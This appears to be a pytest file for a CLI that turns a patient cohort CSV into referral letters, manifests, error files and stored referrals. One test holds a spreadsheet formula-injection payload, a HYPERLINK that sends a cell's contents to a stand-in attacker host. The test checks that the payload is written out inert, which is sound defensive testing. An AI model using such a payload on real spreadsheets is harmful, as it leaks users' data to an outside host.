"""`osteoref letters`: letters, errors and referrals from a cohort, resumable and idempotent."""

from __future__ import annotations

import gc
import hashlib
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from pypdf import PdfReader
from sqlalchemy import func, select
from typer.testing import CliRunner

from api.cli import app
from api.cli_letters_store import fingerprint, idempotency_key
from api.db.engine import Database
from api.db.models import ApiKey, Referral
from api.referrals import idempotency
from api.referrals.schemas import PcpIn, ReferralCreate, ReferrerIn
from api.settings import PROJECT_ROOT, get_settings
from reports import Recipient, render_html
from reports.models import Signatory
from risk.assess import Assessor
from risk.contract import Assessment, PatientRecord
from tests.risk.factories import make_record

SAMPLE = PROJECT_ROOT / "data" / "sample" / "cohort.csv"
OUTCOMES = ["time_months", "event", "treated_after_procedure"]
runner = CliRunner()


@pytest.fixture
def database_url(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    url = f"sqlite:///{tmp_path / 'letters.db'}"
    monkeypatch.setenv("OSTEOREF_DATABASE_URL", url)
    get_settings.cache_clear()
    yield url
    get_settings.cache_clear()


def _sample(rows: int) -> pd.DataFrame:
    return pd.read_csv(SAMPLE, dtype=str, keep_default_na=False, nrows=rows).drop(columns=OUTCOMES)


@pytest.fixture
def cohort(tmp_path: Path) -> Path:
    """Rows 1–4 PCP referrals (4 signed by a referrer), 5 invalid, 6 without a PCP, 7 trauma review."""
    frame = _sample(9).drop(index=[6, 7]).reset_index(drop=True)  # row 7 is SYN7-0000009 (trauma)
    frame["pcp_name"] = [
        "Dr P. One",
        "Dr P. Two",
        "Dr P. Three",
        "Dr P. Four",
        "Dr P. Five",
        "",
        "Dr P. Seven",
    ]
    frame["pcp_address"] = " 1 Surgery Lane ; Exampletown ;"
    frame["referrer_name"] = ["", "", "", "Dr R. Surgeon", "", "", ""]
    frame.loc[4, "sex"] = "other"
    path = tmp_path / "cohort.csv"
    frame.to_csv(path, index=False)
    return path


def _run(cohort: Path, output: Path, *extra: str) -> tuple[int, str]:
    args = ["letters", "--cohort", str(cohort), "--output", str(output), "--jobs", "2", *extra]
    result = runner.invoke(app, args)
    return result.exit_code, result.output


def _referrals(url: str) -> list[Referral]:
    database = Database.connect(url)
    try:
        with database.reader() as session:
            return list(session.scalars(select(Referral).order_by(Referral.patient_id)))
    finally:
        database.dispose()


def test_store_twice_gives_one_referral_per_row_letters_errors_and_exit_status(
    cohort: Path, tmp_path: Path, database_url: str
) -> None:
    output = tmp_path / "letters"
    first_code, first_out = _run(cohort, output, "--store", "--html")
    first = pd.read_csv(output / "referrals.csv", dtype=str)
    stamps = {path.name: path.stat().st_mtime_ns for path in output.glob("*.pdf")}
    second_code, second_out = _run(cohort, output, "--store", "--html")
    second = pd.read_csv(output / "referrals.csv", dtype=str)

    assert (first_code, second_code) == (3, 3), first_out  # row 5 invalid + row 6 without a PCP
    assert "referrals 4 new, 0 existing; 2 failed" in first_out
    assert "referrals 0 new, 4 existing; 2 failed" in second_out
    assert list(first["row_id"]) == ["1", "2", "3", "4"] and set(first["created"]) == {"true"}
    assert list(second["referral_id"]) == list(first["referral_id"]) and set(second["created"]) == {"false"}
    stored = _referrals(database_url)
    assert sorted(str(row.id) for row in stored) == sorted(first["referral_id"])
    assert [row.pcp_json["address"] for row in stored] == [["1 Surgery Lane", "Exampletown"]] * 4
    assert [row.referrer_json["name"] for row in stored] == [get_settings().sender_name] * 3 + [
        "Dr R. Surgeon"
    ]
    assert {pdf.name: pdf.stat().st_mtime_ns for pdf in output.glob("*.pdf")} == stamps


def test_manifest_lists_every_valid_row_and_a_rerun_skips_unchanged_letters(
    cohort: Path, tmp_path: Path, database_url: str
) -> None:
    output = tmp_path / "letters"
    assert _run(cohort, output)[0] == 3
    first = pd.read_csv(output / "manifest.csv", dtype=str, keep_default_na=False)
    code, out = _run(cohort, output)
    second = pd.read_csv(output / "manifest.csv", dtype=str, keep_default_na=False)

    assert code == 3 and "1 error, 5 unchanged; 1 invalid" in out
    assert list(first["row_id"]) == ["1", "2", "3", "4", "6", "7"]
    assert list(first["status"]) == ["rendered"] * 4 + ["error", "rendered"]
    assert list(second["status"]) == ["unchanged"] * 4 + ["error", "unchanged"]
    assert "pcp_name is required" in str(second.loc[4, "errors"])
    assert list(second["input_hash"]) == list(first["input_hash"])
    assert not (output / "referrals.csv").exists()
    errors = pd.read_csv(output / "errors.csv", dtype=str)
    assert errors.to_dict("records") == [
        {"row": "5", "field": "sex", "value": "other", "rule": "must be one of: female, male"}
    ]


def test_letters_are_short_pdfs_that_open_with_the_action(
    cohort: Path, tmp_path: Path, database_url: str
) -> None:
    output = tmp_path / "letters"
    _run(cohort, output)
    manifest = pd.read_csv(output / "manifest.csv", dtype=str, keep_default_na=False)
    files = [name for cell in manifest["files"] for name in cell.split(";") if name]
    assert len(files) == 9  # four PCP letters + four patient copies + one trauma note
    for name in files:
        reader = PdfReader(output / name)
        assert 1 <= len(reader.pages) <= 2, name
        if name.endswith("_pcp_letter.pdf"):
            text = reader.pages[0].extract_text()
            assert "Please" in text and "within" in text


def test_invalid_pcp_cells_are_row_errors_not_a_stopped_run(tmp_path: Path, database_url: str) -> None:
    frame = _sample(2)
    frame["pcp_name"] = ["Dr P. One", "Dr P. Two"]
    frame["pcp_email"] = ["x" * 190 + "@practice.example", ""]  # a real address, 207 characters
    frame["referrer_name"] = ["", " "]
    frame["referrer_role"] = ["", "Nurse"]  # no referrer name: the letterhead sender signs
    path = tmp_path / "cohort.csv"
    frame.to_csv(path, index=False)
    code, out = _run(path, tmp_path / "out", "--jobs", "1")
    errors = pd.read_csv(tmp_path / "out" / "errors.csv", dtype=str)
    manifest = pd.read_csv(tmp_path / "out" / "manifest.csv", dtype=str, keep_default_na=False)
    assert code == 3, out
    assert list(errors[["row", "field"]].itertuples(index=False, name=None)) == [("1", "pcp_email")]
    assert "at most 200 characters" in str(errors.loc[0, "rule"])
    # The manifest carries the input cells unchanged (contract §1), blank name and all.
    assert list(manifest["row_id"]) == ["2"] and manifest.loc[0, "referrer_name"] == " "


def test_a_rejected_cell_that_a_spreadsheet_would_run_is_written_inert(
    tmp_path: Path, database_url: str
) -> None:
    frame = _sample(2)
    frame["pcp_name"] = ["Dr P. One", "Dr P. Two"]
    attack = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
    frame["pcp_email"] = [attack, ""]
    path = tmp_path / "cohort.csv"
    frame.to_csv(path, index=False)
    code, out = _run(path, tmp_path / "out", "--jobs", "1")
    errors = pd.read_csv(tmp_path / "out" / "errors.csv", dtype=str)
    assert code == 3, out
    assert list(errors[["row", "field", "value"]].itertuples(index=False, name=None)) == [
        ("1", "pcp_email", "'" + attack)
    ]


def test_the_manifest_carries_the_training_and_referral_cells_unchanged(
    tmp_path: Path, database_url: str
) -> None:
    frame = pd.read_csv(SAMPLE, dtype=str, keep_default_na=False, nrows=2)  # with §3 outcome columns
    frame["pcp_name"] = ["  Dr P. One ", "Dr P. Two"]
    frame["pcp_address"] = ["1 Elm St ;; Town", ""]
    frame["pcp_phone"] = ["0123 456", ""]
    path = tmp_path / "cohort.csv"
    frame.to_csv(path, index=False)
    code, out = _run(path, tmp_path / "out", "--jobs", "1")
    manifest = pd.read_csv(tmp_path / "out" / "manifest.csv", dtype=str, keep_default_na=False)
    assert code == 0, out
    for column in ("time_months", "event", "treated_after_procedure", "pcp_name", "pcp_address", "pcp_phone"):
        assert list(manifest[column]) == list(frame[column]), column
    assert list(manifest["referrer_name"]) == ["", ""]  # a §4 column absent from the input


def test_letters_key_is_reused_and_its_secret_never_printed(
    cohort: Path, tmp_path: Path, database_url: str
) -> None:
    frame = pd.read_csv(cohort, dtype=str, keep_default_na=False).head(1)
    frame.to_csv(cohort, index=False)
    outputs = [_run(cohort, tmp_path / "out", "--store", "--jobs", "1")[1] for _ in range(2)]
    database = Database.connect(database_url)
    with database.reader() as session:
        keys = session.scalars(select(ApiKey).where(ApiKey.label == "letters-cli")).all()
        count = session.scalar(select(func.count()).select_from(Referral))
    database.dispose()
    assert [key.role for key in keys] == ["clinician"] and count == 1
    assert all(f"osr_{keys[0].prefix}_" not in out for out in outputs)


def test_missing_cohort_is_one_red_line_without_traceback(tmp_path: Path, database_url: str) -> None:
    code, out = _run(tmp_path / "none.csv", tmp_path / "out")
    assert code == 2
    assert "no such file" in out and "Traceback" not in out
    assert out.strip().count("\n") == 0


def test_a_cohort_the_run_would_write_over_is_refused(
    cohort: Path, tmp_path: Path, database_url: str
) -> None:
    output = tmp_path / "out"
    output.mkdir()
    cohort = cohort.rename(output / "errors.csv")
    before = cohort.read_bytes()
    code, out = _run(cohort, output)
    assert code == 2
    assert "is the run's own errors.csv; move it out of" in out
    assert cohort.read_bytes() == before
    assert sorted(p.name for p in output.iterdir()) == ["errors.csv"]


def test_idempotency_key_follows_the_inputs() -> None:
    record = make_record()
    signer = Signatory(name="Dr R. Surgeon")
    key = idempotency_key(record, Recipient(name="Dr P. One"), signer)
    assert key == idempotency_key(make_record(), Recipient(name="Dr P. One"), signer)
    assert key != idempotency_key(record, Recipient(name="Dr P. Two"), signer)
    assert key.startswith("letters-") and len(key) == len("letters-") + 40


def test_key_and_fingerprint_are_those_of_the_api_body_so_earlier_runs_replay() -> None:
    # Referrals stored before the letters run kept its own rows carry keys and fingerprints
    # computed from a ReferralCreate body; a re-run must find them, not conflict with them.
    record = PatientRecord.model_validate_json(make_record().model_dump_json(exclude={"fracture_date"}))
    recipient = Recipient(name="Dr P. One", address=["1 Lane"])
    signer = Signatory(name="Dr R. Surgeon", role="Surgeon")
    body = ReferralCreate(
        patient=record,
        pcp=PcpIn.model_validate(recipient.model_dump()),
        referrer=ReferrerIn.model_validate(signer.model_dump()),
    )
    api_key = hashlib.sha256(
        json.dumps(body.model_dump(mode="json"), sort_keys=True, separators=(",", ":")).encode()
    ).hexdigest()
    assert fingerprint(record, recipient, signer) == idempotency.fingerprint(body)
    assert idempotency_key(record, recipient, signer) == f"letters-{api_key[:40]}"


def test_store_keeps_what_the_run_rendered_and_scores_each_patient_once(
    cohort: Path, tmp_path: Path, database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    scored: list[str] = []
    assess = Assessor.assess

    def counted(self: Assessor, record: PatientRecord) -> Assessment:
        scored.append(record.patient_id)
        return assess(self, record)

    monkeypatch.setattr(Assessor, "assess", counted)
    output = tmp_path / "letters"
    code, out = _run(cohort, output, "--store", "--html")
    assert code == 3, out
    valid = pd.read_csv(output / "manifest.csv", dtype=str)["patient_id"].tolist()
    assert sorted(scored) == sorted(valid)  # one assessment per valid patient, none on --store
    stored = _referrals(database_url)
    assert len(stored) == 4
    for referral in stored:
        name = referral.patient_id
        assert referral.letter_html == (output / f"{name}_pcp_letter.html").read_text(encoding="utf-8")
        assert referral.patient_letter_html == (output / f"{name}_patient_copy.html").read_text(
            encoding="utf-8"
        )


def test_fls_kpi_columns_are_accepted_as_by_score_and_unknown_ones_named(
    tmp_path: Path, database_url: str
) -> None:
    frame = _sample(1)
    frame["pcp_name"] = ["Dr P. One"]
    frame["fls_identification_date"] = ["2026-02-03"]
    path = tmp_path / "cohort.csv"
    frame.to_csv(path, index=False)
    code, out = _run(path, tmp_path / "out", "--jobs", "1")
    assert code == 0, out
    frame["shoe_size"] = ["9"]
    frame.to_csv(path, index=False)
    code, out = _run(path, tmp_path / "out2", "--jobs", "1")
    assert code != 0
    assert "shoe_size" in out and "fls_identification_date" in out


def test_synthetic_cohort_without_pcp_columns_says_why_on_the_terminal(tmp_path: Path) -> None:
    cohort = tmp_path / "synth.csv"
    assert CliRunner().invoke(app, ["synth", "--n", "3", "--seed", "4", "-o", str(cohort)]).exit_code == 0
    code, out = _run(cohort, tmp_path / "out", "--jobs", "1")
    assert code == 3
    assert "first 3 problem(s):" in out
    assert "data row 1: pcp_name is required" in out


def test_a_run_holds_one_batch_of_patients_at_a_time_whatever_the_cohort_size(
    tmp_path: Path, database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    batch, rows = 10, 60
    frame = _sample(rows)
    frame["pcp_name"] = "Dr P. One"
    path = tmp_path / "cohort.csv"
    frame.to_csv(path, index=False)
    alive: list[int] = []
    render = render_html

    def counting(*args: Any, **kwargs: Any) -> str:
        # Every PatientRecord still reachable anywhere in the process, at each letter rendered.
        alive.append(sum(isinstance(thing, PatientRecord) for thing in gc.get_objects()))
        return render(*args, **kwargs)

    monkeypatch.setattr("api.cli_letters_run.SCORE_BATCH", batch)
    monkeypatch.setattr("reports.batch.render_html", counting)
    monkeypatch.setattr("reports.batch.render_pdf", lambda html: b"%PDF-stub")
    gc.collect()
    before = sum(isinstance(thing, PatientRecord) for thing in gc.get_objects())
    code, out = _run(path, tmp_path / "out", "--jobs", "1", "--chunk-rows", "25")
    rendered = pd.read_csv(tmp_path / "out" / "manifest.csv", dtype=str)["status"].eq("rendered").sum()
    assert code == 0 and rendered > 4 * batch, out
    # Not the cohort: one batch is scored and rendered at a time (+1: the last outcome of the
    # batch before, which the command's loop variable still names while the next one renders).
    assert max(alive) - before <= batch + 1
